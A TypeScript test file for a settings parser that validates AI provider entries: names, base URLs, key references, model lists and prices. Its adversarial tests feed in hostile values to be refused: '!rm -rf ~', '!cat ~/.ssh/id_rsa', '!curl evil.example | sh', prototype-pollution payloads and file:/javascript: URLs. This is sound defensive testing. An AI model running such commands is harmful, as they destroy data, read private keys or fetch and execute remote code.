import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseProviders, problemLabel } from '../../../../src/core/models/providers/config';
import { HOW_TO_STORE_KEY } from '../../../../src/core/models/providers/keys';

const WHERE = 'settings: alfred.providers';
const LITERAL = 'sk-live-4f9a2b7c1d3e5f60718293a4b5c6d7e8';
const keysOf = (v: unknown) => parseProviders(v).problems.map((p) => p.key);

test('a full entry is read as written: key reference, models with limits, capabilities and prices', () => {
  const { providers, problems } = parseProviders([{
    name: 'openai', protocol: 'openai', baseUrl: 'https://api.openai.com/v1/', key: '$OPENAI_API_KEY', timeoutMs: 30_000,
    price: { inputPerMTok: 1, outputPerMTok: 2 },
    models: [
      { id: 'gpt-4o', name: 'GPT-4o', maxInputTokens: 128_000, maxOutputTokens: 16_384, vision: true, toolCalling: true, price: { inputPerMTok: 2.5, outputPerMTok: 10, cachedInputPerMTok: 1.25 } },
      'o3-mini',
      { id: 'o3', reasoning: true },
    ],
  }]);
  assert.deepEqual(problems, []);
  assert.deepEqual(providers, [{
    name: 'openai', protocol: 'openai', baseUrl: 'https://api.openai.com/v1', key: { kind: 'env', variable: 'OPENAI_API_KEY' },
    models: [
      { id: 'gpt-4o', name: 'GPT-4o', maxInputTokens: 128_000, maxOutputTokens: 16_384, vision: true, toolCalling: true, price: { inputPerMTok: 2.5, outputPerMTok: 10, cachedInputPerMTok: 1.25 } },
      { id: 'o3-mini' },
      { id: 'o3', reasoning: true },
    ],
    price: { inputPerMTok: 1, outputPerMTok: 2 },
    timeoutMs: 30_000,
  }]);
});

test('the three key references and no key; models absent or "list" ask the endpoint', () => {
  const { providers, problems } = parseProviders([
    { name: 'a', protocol: 'anthropic', baseUrl: 'https://api.anthropic.com', key: '${ANTHROPIC_API_KEY}' },
    { name: 'b', protocol: 'openai', baseUrl: 'https://openrouter.ai/api/v1', key: 'secret:openrouter', models: 'list' },
    { name: 'ollama', protocol: 'openai', baseUrl: 'http://127.0.0.1:11434/v1' },
  ]);
  assert.deepEqual(problems, []);
  assert.deepEqual(providers.map((p) => [p.name, p.key, p.models]), [
    ['a', { kind: 'env', variable: 'ANTHROPIC_API_KEY' }, 'list'],
    ['b', { kind: 'secret', name: 'openrouter' }, 'list'],
    ['ollama', { kind: 'none' }, 'list'],
  ]);
});

test('a bad entry is reported by path and key and left out; the others still load', () => {
  const { providers, problems } = parseProviders([
    { name: 'good', protocol: 'openai', baseUrl: 'http://localhost:1234/v1' },
    { name: 'bad name!', protocol: 'openai', baseUrl: 'https://x.example' },
    { name: 'p2', protocol: 'gemini', baseUrl: 'https://x.example' },
    { name: 'p3', protocol: 'openai', baseUrl: 'ftp://x.example' },
    { name: 'p4', protocol: 'openai', baseUrl: 'not a url' },
    { name: 'p5', protocol: 'openai', baseUrl: 'https://x.example', timeoutMs: 10 },
    { name: 'p6', protocol: 'openai', baseUrl: 'https://x.example', price: { inputPerMTok: -1 } },
    'nope',
    { name: 'GOOD', protocol: 'openai', baseUrl: 'https://x.example' },
    { name: 'p9', protocol: 'openai', baseUrl: 'https://x.example', modles: ['gpt-4o'] },
  ]);
  assert.deepEqual(providers.map((p) => p.name), ['good', 'p9']);
  assert.deepEqual(problems, [
    { path: WHERE, key: '[1].name', message: 'must be 1 to 32 letters, digits, _ or -', provider: 'bad name!' },
    { path: WHERE, key: '[2].protocol', message: 'must be "openai" (OpenAI-compatible chat completions) or "anthropic" (messages API)', provider: 'p2' },
    { path: WHERE, key: '[3].baseUrl', message: 'must start with http:// or https://', provider: 'p3' },
    { path: WHERE, key: '[4].baseUrl', message: 'is not a URL: write it as "https://host/path" or "http://127.0.0.1:port/v1"', provider: 'p4' },
    { path: WHERE, key: '[5].timeoutMs', message: 'must be a whole number of milliseconds from 1000 to 600000', provider: 'p5' },
    { path: WHERE, key: '[6].price.inputPerMTok', message: 'must be USD per million tokens, a number of at least 0', provider: 'p6' },
    { path: WHERE, key: '[6].price.outputPerMTok', message: 'is required: USD per million tokens, a number of at least 0', provider: 'p6' },
    { path: WHERE, key: '[7]', message: 'must be an object with "name", "protocol" and "baseUrl"' },
    { path: WHERE, key: '[8].name', message: '"GOOD" is defined twice; the first one is used', provider: 'GOOD' },
    { path: WHERE, key: '[9].modles', message: 'unknown key, ignored (expected name, protocol, baseUrl, key, models, price, timeoutMs)', provider: 'p9' },
  ]);
  assert.deepEqual(parseProviders({ name: 'x' }).problems, [{ path: WHERE, key: '', message: 'must be a list of providers ({ "name", "protocol", "baseUrl", "key", "models" })' }]);
  assert.deepEqual(parseProviders(undefined), { providers: [], problems: [] });
  assert.equal(parseProviders([], 'providers.toml').problems.length, 0);
  assert.equal(parseProviders([1], 'providers.toml').problems[0]!.path, 'providers.toml');
});

test('models: a bad one is left out with its key, duplicate ids are reported, the provider keeps the rest', () => {
  const { providers, problems } = parseProviders([{
    name: 'p', protocol: 'openai', baseUrl: 'https://x.example/v1',
    models: ['a', { id: 'b', maxInputTokens: 0 }, { id: 'a', name: 'again' }, { id: 'has space' }, { id: 'c', vision: 'yes' }, { id: 'd', price: { inputPerMTok: 1 } }, 7],
  }]);
  assert.deepEqual(providers[0]!.models, [{ id: 'a' }]);
  assert.deepEqual(problems.map((p) => [p.key, p.message]), [
    ['[0].models[1].maxInputTokens', 'must be a whole number of tokens from 1 to 100000000'],
    ['[0].models[2].id', '"a" is listed twice; the first one is used'],
    ['[0].models[3].id', 'must be the model\'s id as the endpoint spells it (1 to 256 characters, no spaces)'],
    ['[0].models[4].vision', 'must be true or false'],
    ['[0].models[5].price.outputPerMTok', 'is required: USD per million tokens, a number of at least 0'],
    ['[0].models[6]', 'must be a model id or an object with "id"'],
  ]);
  assert.deepEqual(keysOf([{ name: 'p', protocol: 'openai', baseUrl: 'https://x.example', models: [] }]), ['[0].models']);
  assert.deepEqual(keysOf([{ name: 'p', protocol: 'openai', baseUrl: 'https://x.example', models: 'all' }]), ['[0].models']);
  const allBad = parseProviders([{ name: 'p', protocol: 'openai', baseUrl: 'https://x.example', models: [{ id: '' }] }]);
  assert.deepEqual([allBad.providers, allBad.problems.map((p) => p.key)], [[], ['[0].models[0].id']], 'a provider whose every model is bad is left out');
});

test('adversarial: a literal key is refused with how to store it, and the value appears nowhere in the problems', () => {
  const input = [
    { name: 'leak', protocol: 'openai', baseUrl: 'https://api.openai.com/v1', key: LITERAL },
    { name: 'ok', protocol: 'openai', baseUrl: 'https://api.openai.com/v1', key: '$OPENAI_API_KEY' },
  ];
  const { providers, problems } = parseProviders(input);
  assert.deepEqual(providers.map((p) => p.name), ['ok']);
  assert.deepEqual(problems, [{ path: WHERE, key: '[0].key', message: `looks like a literal key, which a settings file must not hold: ${HOW_TO_STORE_KEY}`, provider: 'leak' }]);
  assert.match(problems[0]!.message, /environment variable and write "\$NAME"/);
  assert.match(problems[0]!.message, /"Alfred: Set Provider Key"/);
  const text = JSON.stringify(problems);
  for (const fragment of [LITERAL, 'sk-live', '4f9a2b7c']) assert.ok(!text.includes(fragment), fragment);
});

test('adversarial: a key written as a number, an object, inside the URL, or under another name is not taken', () => {
  const { providers, problems } = parseProviders([
    { name: 'a', protocol: 'openai', baseUrl: 'https://x.example', key: 12345678901234 },
    { name: 'b', protocol: 'openai', baseUrl: `https://user:${LITERAL}@x.example/v1` },
    { name: 'c', protocol: 'openai', baseUrl: 'https://x.example', apiKey: LITERAL },
    { name: 'd', protocol: 'openai', baseUrl: 'https://x.example', key: { value: LITERAL } },
  ]);
  assert.deepEqual(providers.map((p) => [p.name, p.key]), [['c', { kind: 'none' }]], 'an unknown key is ignored, never used as a key');
  assert.deepEqual(problems.map((p) => p.key), ['[0].key', '[1].baseUrl', '[2].apiKey', '[3].key']);
  assert.equal(problems[0]!.message, `must be a key reference (a string), not a literal key: ${HOW_TO_STORE_KEY}`);
  assert.equal(problems[1]!.message, `must not hold credentials (user:password@): ${HOW_TO_STORE_KEY}`);
  const text = JSON.stringify(problems);
  assert.ok(!text.includes(LITERAL) && !text.includes('12345678901234') && !text.includes('sk-live'));
});

test('adversarial: a value starting with "!" is refused in any field and never run', () => {
  const { providers, problems } = parseProviders([
    { name: 'a', protocol: 'openai', baseUrl: '!rm -rf ~' },
    { name: 'b', protocol: 'openai', baseUrl: 'https://x.example', key: '!rm -rf ~' },
    { name: 'c', protocol: 'openai', baseUrl: 'https://x.example', key: '  !cat ~/.ssh/id_rsa' },
    { name: 'd', protocol: 'openai', baseUrl: 'https://x.example', models: [{ id: '!curl evil.example | sh' }, 'ok-model'] },
    { name: 'e', protocol: 'openai', baseUrl: 'https://x.example', hook: '!touch /tmp/x' },
    { name: '!f', protocol: 'openai', baseUrl: 'https://x.example' },
  ]);
  assert.deepEqual(providers.map((p) => [p.name, p.models]), [['d', [{ id: 'ok-model' }]]]);
  const bang = 'starts with "!": Alfred never runs commands from settings; the entry is left out';
  assert.deepEqual(problems.map((p) => [p.key, p.message]), [
    ['[0].baseUrl', bang],
    ['[1].key', `${bang}. To give a key, ${HOW_TO_STORE_KEY}`],
    ['[2].key', `${bang}. To give a key, ${HOW_TO_STORE_KEY}`],
    ['[3].models[0].id', bang],
    ['[4].hook', 'unknown key, ignored (expected name, protocol, baseUrl, key, models, price, timeoutMs)'],
    ['[4].hook', bang],
    ['[5].name', bang],
  ]);
  assert.ok(!JSON.stringify(problems).includes('rm -rf'));
});

test('adversarial: __proto__ and friends pollute nothing and are never read', () => {
  const raw = JSON.parse('[{"name":"p","protocol":"openai","baseUrl":"https://x.example","__proto__":{"key":"$HOME","polluted":true},"models":[{"id":"m","__proto__":{"vision":true}}]},'
    + '{"name":"__proto__","protocol":"openai","baseUrl":"https://x.example"},{"__proto__":{"name":"q","protocol":"openai","baseUrl":"https://x.example"}}]');
  const { providers, problems } = parseProviders(raw);
  assert.deepEqual(providers, [{ name: 'p', protocol: 'openai', baseUrl: 'https://x.example', key: { kind: 'none' }, models: [{ id: 'm' }] }]);
  assert.equal(Object.getPrototypeOf(providers[0]), Object.prototype);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
  assert.deepEqual(problems.map((p) => p.key), ['[0].__proto__', '[0].models[0].__proto__', '[1].name', '[2].__proto__', '[2].name', '[2].protocol', '[2].baseUrl']);
  assert.equal(problems[2]!.message, 'is a reserved word; choose another name');
  // An object whose prototype was set (not JSON) lends it nothing either.
  const inherited = Object.create({ name: 'x', protocol: 'openai', baseUrl: 'https://x.example' });
  assert.deepEqual(keysOf([inherited]), ['[0].name', '[0].protocol', '[0].baseUrl']);
});

test('adversarial: a 200 KB string in each field is refused quickly, without being repeated', () => {
  const big = 'A'.repeat(200_000);
  const started = Date.now();
  const { providers, problems } = parseProviders([
    { name: big, protocol: big, baseUrl: `https://x.example/${big}`, key: big, models: [big, { id: 'm', name: big }] },
  ]);
  assert.deepEqual(providers, []);
  assert.deepEqual(problems.map((p) => p.key), ['[0].name', '[0].protocol', '[0].baseUrl', '[0].key', '[0].models[0].id', '[0].models[1].name']);
  assert.equal(problems[2]!.message, 'is longer than 2048 characters');
  assert.ok(problems.every((p) => p.message.length < 400), 'no message repeats the value');
  assert.ok(Date.now() - started < 1_000);
});

test('base URL: http(s) with a host, trailing slashes dropped, IPv6 and ports kept', () => {
  const urls = ['http://[::1]:8080/v1//', 'https://api.anthropic.com', 'http://192.168.1.20:8000/v1'];
  const { providers } = parseProviders(urls.map((baseUrl, i) => ({ name: `p${i}`, protocol: 'openai', baseUrl })));
  assert.deepEqual(providers.map((p) => p.baseUrl), ['http://[::1]:8080/v1', 'https://api.anthropic.com', 'http://192.168.1.20:8000/v1']);
  assert.deepEqual(keysOf([{ name: 'p', protocol: 'openai', baseUrl: 'file:///etc/passwd' }, { name: 'q', protocol: 'openai', baseUrl: 'javascript:alert(1)' }, { name: 'r', protocol: 'openai', baseUrl: '' }]),
    ['[0].baseUrl', '[1].baseUrl', '[2].baseUrl']);
});

test('doctor names a refused entry by its name where it has one, by its index otherwise', () => {
  const { problems } = parseProviders([
    { name: 'ok', protocol: 'openai', baseUrl: 'http://127.0.0.1:11434/v1' },
    { name: 'local', protocol: 'openai', baseUrl: 'ftp://127.0.0.1/v1' },
    { protocol: 'openai', baseUrl: 'http://x/v1' },
  ]);
  assert.deepEqual(problems.map(problemLabel), [
    'settings: alfred.providers "local" ([1].baseUrl)',
    'settings: alfred.providers [2].name',
  ]);
});
